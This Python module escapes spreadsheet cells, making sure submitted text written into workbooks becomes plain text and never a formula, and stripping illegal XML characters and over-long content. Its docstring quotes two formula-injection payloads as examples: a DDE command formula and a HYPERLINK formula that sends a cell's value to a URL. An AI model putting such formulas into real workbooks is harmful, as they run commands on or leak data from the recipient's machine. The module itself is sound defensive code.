"""Text into spreadsheet cells: never a formula, never an illegal character, never cut silently.

Submitted and configured text (unit names, 填报人, 联系电话, an unknown header, a detail
cell, a message quoting a value) ends up in workbooks the toolkit writes and sends back to
units. A text such as ``=cmd|' /C calc'!A0`` or ``=HYPERLINK("http://…?d="&A4,"点此查看")``
must stay text. :func:`write_text` is the one function that puts text into a cell, for
openpyxl (templates, 退回修改) and XlsxWriter (汇总表, 控制台) worksheets alike:

* openpyxl takes a string starting with ``=`` as a formula unless the cell is typed ``s``;
  XlsxWriter's ``write_string`` always writes a string (its ``write()`` would not);
* characters XML 1.0 cannot hold (C0 controls but tab, line feed and carriage return,
  U+FFFE, U+FFFF, lone surrogates) are removed: openpyxl refuses them, and they mean
  nothing in a cell;
* a text longer than Excel's cell limit (32,767 UTF-16 units) is cut to ``CELL_KEEP``
  units plus :data:`CUT_MARK`, and ``on_cut(original length, cut text)`` is called so the
  writer can say so (``cell-truncated``).

:func:`write_value` writes any value (numbers and dates as such, text through
:func:`write_text`); :func:`typed_text` is the same rule for the paths where Excel parses
what it is given (xlwings writing into the open 控制台).
"""

from __future__ import annotations

import math
import re
from collections.abc import Callable
from datetime import date, datetime, time, timedelta
from typing import Any

__all__ = ["CELL_LIMIT", "CELL_KEEP", "CUT_MARK", "FORMULA_STARTS", "clean", "fit", "too_long",
           "write_text", "write_value", "typed_text"]

CELL_LIMIT = 32_767  # Excel's limit, in UTF-16 units
CELL_KEEP = 32_000  # what is kept of a longer text
CUT_MARK = "…（已截断）"
#: a text starting with one of these is a formula (or a number) to Excel when typed or parsed
FORMULA_STARTS = ("=", "+", "-", "@")

_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]")

OnCut = Callable[[int, str], None]


def clean(text: str) -> str:
    """``text`` without the characters a cell (XML 1.0) cannot hold."""
    return _ILLEGAL.sub("", text) if _ILLEGAL.search(text) else text


def _utf16_len(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def too_long(text: str) -> bool:
    """More than Excel's cell limit (a character outside the BMP counts two)."""
    return len(text) > CELL_LIMIT // 2 and _utf16_len(text) > CELL_LIMIT


def fit(text: str) -> tuple[str, int | None]:
    """(``text`` as a cell can hold it, its original length if it had to be cut else None).

    Cut: the first ``CELL_KEEP`` UTF-16 units (never splitting a character) + ``CUT_MARK``."""
    text = clean(text)
    if not too_long(text):
        return text, None
    kept = text[:CELL_KEEP]
    while _utf16_len(kept) > CELL_KEEP:
        kept = kept[: len(kept) - max(1, (_utf16_len(kept) - CELL_KEEP) // 2)]
    return kept + CUT_MARK, len(text)


def _is_xlsxwriter(ws: Any) -> bool:
    return hasattr(ws, "write_string")


def _finite(value: int | float) -> bool:
    try:
        return math.isfinite(value)  # an int beyond float's range raises
    except OverflowError:
        return False


def write_text(ws: Any, row: int, col: int, value: Any, fmt: Any = None, *, on_cut: OnCut | None = None) -> Any:
    """Write ``value`` as text into cell (``row``, ``col``) of ``ws`` and return the cell (openpyxl)
    or None (XlsxWriter). Coordinates as the library counts them: openpyxl from 1, XlsxWriter
    from 0. ``fmt``: the XlsxWriter format (openpyxl callers style the returned cell).
    ``None`` leaves the cell empty."""
    if value is None:
        if _is_xlsxwriter(ws):
            if fmt is not None:
                ws.write_blank(row, col, None, fmt)
            return None
        cell = ws.cell(row, col)
        cell.value = None
        return cell
    text, original = fit(value if isinstance(value, str) else str(value))
    if original is not None and on_cut is not None:
        on_cut(original, text)
    if _is_xlsxwriter(ws):
        ws.write_string(row, col, text, fmt)
        return None
    cell = ws.cell(row, col)
    cell.value = text
    cell.data_type = "s"  # openpyxl made a formula of "=…": typed text instead
    return cell


def write_value(ws: Any, row: int, col: int, value: Any, fmt: Any = None, date_fmt: Any = None, *,
                on_cut: OnCut | None = None) -> Any:
    """Write ``value`` as found: numbers as numbers, dates and times as such, anything else as
    text (:func:`write_text`). A number a cell cannot hold (NaN, infinite) is written as text."""
    if isinstance(value, bool) or not isinstance(value, (int, float, date, time, timedelta)):
        return write_text(ws, row, col, value, fmt, on_cut=on_cut)
    if isinstance(value, (int, float)) and not _finite(value):
        return write_text(ws, row, col, str(value), fmt, on_cut=on_cut)
    if _is_xlsxwriter(ws):
        if isinstance(value, (int, float)):
            ws.write_number(row, col, value, fmt)
        elif isinstance(value, (datetime, date)):
            when = value if isinstance(value, datetime) else datetime(value.year, value.month, value.day)
            ws.write_datetime(row, col, when.replace(tzinfo=None), date_fmt)  # None: the workbook's date format
        else:
            ws.write_string(row, col, str(value), fmt)
        return None
    cell = ws.cell(row, col)
    cell.value = value
    return cell


def typed_text(value: Any) -> Any:
    """``value`` for a cell that Excel fills by parsing (xlwings ``range.value``): text that
    would become a formula or a number (``=…``, ``+…``, ``-…``, ``@…``) gets Excel's text prefix
    ``'`` (not shown in the cell); other values unchanged."""
    if not isinstance(value, str):
        return value
    text, _ = fit(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
